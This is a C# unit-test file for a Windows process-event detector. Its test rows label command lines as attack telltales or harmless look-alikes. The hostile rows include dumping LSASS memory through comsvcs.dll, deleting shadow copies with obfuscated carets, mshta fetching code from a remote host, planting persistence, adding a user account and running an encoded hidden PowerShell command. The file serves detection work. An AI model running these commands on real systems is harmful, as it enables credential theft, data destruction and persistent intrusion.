using Changeling.TestSupport;

namespace Changeling.Core.Tests.Features;

/// <summary>Telltales, routine uses, the parent's own command line, pairs and the look of names.</summary>
public class LineageFeatureTests
{
    [Theory]

    // The same act reads the same in every wrapper
    [InlineData("rundll32.exe", @"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\a.dmp full", "telltale.dumps_lsass", true)]
    [InlineData("cmd.exe", @"cmd /c rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\a.dmp full", "telltale.dumps_lsass", true)]
    [InlineData("powershell.exe", @"powershell -c ""cmd /c rundll32 comsvcs.dll #24 640 a full""", "telltale.dumps_lsass", true)]
    [InlineData("cmd.exe", "cmd /c vssa^dmin del^ete shad^ows /all", "telltale.inhibits_recovery", true)]
    [InlineData("mshta.exe", "mshta http://192.0.2.7/a.hta", "telltale.fetches_code", true)]
    [InlineData("schtasks.exe", @"schtasks /create /tn a /tr C:\Users\Public\a.exe /sc minute", "telltale.plants_task", true)]
    [InlineData("reg.exe", @"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b", "telltale.plants_autostart", true)]
    [InlineData("net1.exe", "net1 user backup Passw0rd! /add", "telltale.changes_accounts", true)]
    [InlineData("wmic.exe", @"wmic /node:srv02 process call create a.exe", "telltale.runs_remotely", true)]
    [InlineData("cmd.exe", @"cmd /c echo abc > \\.\pipe\abc", "telltale.writes_to_pipe", true)]
    [InlineData("powershell.exe", @"powershell -c ""[IO.File]::WriteAllText('\\.\pipe\abc', 'x')""", "telltale.writes_to_pipe", true)]
    [InlineData("cmd.exe", @"cmd /c whoami>\\.\pipe\abc", "telltale.writes_to_pipe", true)]

    // Everyday cousins
    [InlineData("vssadmin.exe", "vssadmin list writers", "telltale.inhibits_recovery", false)]
    [InlineData("wmic.exe", "wmic os get caption /format:csv", "telltale.fetches_code", false)]
    [InlineData("certutil.exe", "certutil -hashfile a.msi SHA256", "telltale.fetches_code", false)]
    [InlineData("net.exe", "net user", "telltale.changes_accounts", false)]
    [InlineData("w3wp.exe",
        @"c:\windows\system32\inetsrv\w3wp.exe -ap ""DefaultAppPool"" -v ""v4.0"" -l ""webengine4.dll"" -a \\.\pipe\iisipm4f0c -h ""C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config"" -w """" -m 0 -t 20 -ta 0",
        "telltale.writes_to_pipe", false)]
    [InlineData("agent.exe", @"agent.exe --channel \\.\pipe\agent --echoes 3", "telltale.writes_to_pipe", false)]
    public void A_command_holds_the_telltale(string child, string commandLine, string feature, bool expected) =>
        Assert.Equal(expected, Feature.Of(Some.ProcessEvent(child: child, commandLine: commandLine), feature) > 0);

    [Theory]
    [InlineData("services.exe", "svchost.exe", "svchost.exe -k netsvcs -p", "custom.boot_and_logon", true)]
    [InlineData("cmd.exe", "svchost.exe", "svchost.exe -k netsvcs -p", "custom.boot_and_logon", false)]
    [InlineData("chrome.exe", "chrome.exe", "chrome.exe --type=renderer", "custom.sandboxed_browser", true)]
    [InlineData("csc.exe", "cvtres.exe", "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86", "custom.console_and_crash", true)]
    public void Parent_child_and_arguments_together_are_the_custom(
        string parent, string child, string commandLine, string feature, bool expected) =>
        Assert.Equal(expected, Feature.Of(Some.ProcessEvent(parent, child, commandLine), feature) > 0);

    [Fact]
    public void What_the_parent_was_told_to_do_is_evidence()
    {
        var e = Some.ProcessEvent("powershell.exe", "csc.exe", "csc.exe /noconfig");
        e = e with { Parent = e.Parent! with { CommandLine = "powershell -nop -w hidden -enc SQBFAFgA" } };

        Assert.True(Feature.Of(e, "parent.telltale.hidden_encoded") > 0);
        Assert.Equal(1, Feature.Of(e, "parent.behaviour.powershell_encoded"));
        Assert.Equal(0, Feature.Of(e, "telltale.hidden_encoded"));
    }

    [Theory]
    [InlineData("powershell.exe", "fodhelper.exe", "lineage.auto_elevated_from_shell", 1)]
    [InlineData("explorer.exe", "fodhelper.exe", "lineage.auto_elevated_from_shell", 0)]
    [InlineData("fodhelper.exe", "cmd.exe", "lineage.auto_elevated_starts_program", 1)]
    [InlineData("eventvwr.exe", "mmc.exe", "lineage.auto_elevated_starts_program", 0)]
    [InlineData("spoolsv.exe", "cmd.exe", "lineage.system_program_starts_shell", 1)]
    [InlineData("explorer.exe", "cmd.exe", "lineage.system_program_starts_shell", 0)]
    [InlineData("w3wp.exe", "notepad.exe", "lineage.accessory_of_program", 1)]
    [InlineData("explorer.exe", "notepad.exe", "lineage.accessory_of_program", 0)]
    public void A_pair_is_unusual_for_Windows(string parent, string child, string feature, float expected) =>
        Assert.Equal(expected, Feature.Of(Some.ProcessEvent(parent, child), feature));

    [Theory]
    [InlineData(@"C:\Windows\kTzQwPLm.exe", "child.name_consonants", 8)]
    [InlineData(@"C:\Windows\kTzQwPLm.exe", "child.name_case_changes", 3)]
    [InlineData(@"C:\Windows\explorer.exe", "child.name_consonants", 3)]
    [InlineData(@"C:\Windows\explorer.exe", "child.name_case_changes", 0)]
    [InlineData(@"C:\a\BRE6BgE2.exe", "child.name_switches", 3)]
    [InlineData(@"C:\a\12.exe", "child.name_vowels", 1 / 3f)]
    public void A_name_has_its_shape(string path, string feature, float expected)
    {
        var e = Some.ProcessEvent();

        Assert.Equal(expected, Feature.Of(e with { Child = e.Child with { Path = path } }, feature));
    }

    [Fact]
    public void A_share_of_another_machine_behind_the_redirector_is_a_network_place()
    {
        var e = Some.ProcessEvent();

        Assert.Equal(1, Feature.Of(e with { Child = e.Child with { Path = @"\Device\Mup\srv\share\a.exe" } }, "child.place.network"));
    }
}
